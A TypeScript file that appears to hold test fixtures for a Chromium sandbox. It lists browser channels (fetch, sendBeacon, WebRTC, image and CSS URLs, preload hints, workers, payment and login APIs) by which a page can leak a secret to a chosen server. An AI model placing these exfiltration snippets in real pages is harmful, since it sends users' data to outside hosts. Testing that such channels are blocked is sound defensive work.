/** What a way out reaches when nothing holds it back. `nothing`: this Chromium does not have it, or not always, or only with a person's help. */
export type Reach = "request" | "packet" | "connection" | "nothing";

/** One way by which a page may tell a secret to a server that it chose. The code knows `SECRET`, `url`, `link`, `rtc` and `inner`. */
export interface WayOut {
  readonly name: string;
  readonly unprotected: Reach;
  readonly script?: string;
  /** `{url}` is replaced, and `{quoted}` by a script that uses WebRTC. */
  readonly markup?: string;
  /** More files of the app; the script goes there. */
  readonly files?: Readonly<Record<string, string>>;
  /** It may take the whole browser tab with it. */
  readonly takesTab?: true;
}

const network: readonly WayOut[] = [
  { name: "fetch", unprotected: "request", script: `fetch(url, { mode: "no-cors" })` },
  {
    name: "fetch, kept alive",
    unprotected: "request",
    script: `fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: SECRET })`,
  },
  {
    name: "fetch with credentials",
    unprotected: "request",
    script: `fetch(url, { mode: "no-cors", credentials: "include" })`,
  },
  { name: "fetchLater", unprotected: "nothing", script: `fetchLater(url, { activateAfter: 0 })` },
  {
    name: "XMLHttpRequest",
    unprotected: "request",
    script: `const x = new XMLHttpRequest(); x.open("POST", url); x.send(SECRET)`,
  },
  { name: "WebSocket", unprotected: "request", script: `new WebSocket(url.replace("http", "ws"))` },
  { name: "EventSource", unprotected: "request", script: `new EventSource(url)` },
  { name: "beacon", unprotected: "request", script: `navigator.sendBeacon(url, SECRET)` },
  { name: "WebTransport", unprotected: "packet", script: `new WebTransport(url.replace("http:", "https:"))` },
  { name: "WebRTC", unprotected: "packet", script: `rtc(window)` },
  { name: "WebRTC, old name", unprotected: "packet", script: `rtc({ RTCPeerConnection: webkitRTCPeerConnection })` },
];

const images: readonly WayOut[] = [
  { name: "image", unprotected: "request", script: `new Image().src = url` },
  {
    name: "image in markup",
    unprotected: "request",
    markup: `<img src="{url}"><img srcset="{url} 2x"><input type="image" src="{url}">`,
  },
  { name: "image in SVG", unprotected: "request", markup: `<svg><image href="{url}"/><use href="{url}#x"/></svg>` },
  {
    name: "video and its poster",
    unprotected: "request",
    markup: `<video src="{url}" poster="{url}" autoplay muted></video><audio src="{url}" autoplay></audio>`,
  },
  { name: "CSS url", unprotected: "request", markup: `<style>h1{background:url({url})}</style>` },
  {
    name: "CSS url, from a script",
    unprotected: "request",
    script: `document.body.style.background = "image-set('" + url + "' 1x)"`,
  },
  { name: "CSS import", unprotected: "request", markup: `<style>@import "{url}";</style>` },
  { name: "CSS font", unprotected: "request", script: `new FontFace("x", "url(" + url + ")").load().catch(() => {})` },
  { name: "style sheet", unprotected: "request", script: `link("stylesheet")` },
  { name: "icon", unprotected: "nothing", script: `link("icon")` },
  { name: "attribution source", unprotected: "request", markup: `<img attributionsrc="{url}" src="{url}">` },
];

const hints: readonly WayOut[] = [
  { name: "prefetch", unprotected: "request", script: `link("prefetch")` },
  { name: "preload", unprotected: "request", script: `link("preload", { as: "image" })` },
  { name: "module preload", unprotected: "request", script: `link("modulepreload")` },
  {
    name: "hints in markup",
    unprotected: "request",
    markup: `<link rel="preload" as="image" href="{url}"><link rel="prefetch" href="{url}"><link rel=preconnect href="{url}">`,
  },
  {
    name: "a hint behind a quote",
    unprotected: "nothing",
    markup: `<link href="{url}" title="x rel=stylesheet" rel="preconnect">`,
  },
  { name: "preconnect", unprotected: "nothing", script: `link("preconnect")` },
  { name: "DNS prefetch", unprotected: "nothing", script: `link("dns-prefetch")` },
  {
    name: "speculation rules",
    unprotected: "nothing",
    script: `const s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }); document.head.append(s)`,
  },
  {
    name: "speculation rules in markup",
    unprotected: "nothing",
    markup: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"],"eagerness":"immediate"}]}</script>`,
  },
];

const code: readonly WayOut[] = [
  {
    name: "script",
    unprotected: "request",
    script: `const s = document.createElement("script"); s.src = url; document.head.append(s)`,
  },
  { name: "import()", unprotected: "request", script: `import(url).catch(() => {})` },
  {
    name: "worker",
    unprotected: "request",
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "',{mode:'no-cors'})"])))`,
  },
  {
    name: "worker, not checked",
    unprotected: "request",
    script: `new Worker("data:text/javascript,fetch('" + encodeURIComponent(url) + "',{mode:'no-cors'})")`,
  },
  {
    name: "shared worker",
    unprotected: "request",
    script: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + url + "',{mode:'no-cors'})"])))`,
  },
  { name: "service worker", unprotected: "nothing", script: `navigator.serviceWorker.register("app.json")` },
  { name: "audio worklet", unprotected: "request", script: `new AudioContext().audioWorklet.addModule(url)` },
  { name: "paint worklet", unprotected: "request", script: `CSS.paintWorklet.addModule(url)` },
  {
    name: "payment manifest",
    unprotected: "request",
    script: `new PaymentRequest([{ supportedMethods: url }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
  },
  {
    name: "federated login",
    unprotected: "request",
    script: `navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: SECRET }] } })`,
  },
];

/** Ways that ask for something; they don't disturb each other. */
export const requestWays: readonly WayOut[] = [...network, ...images, ...hints, ...code];
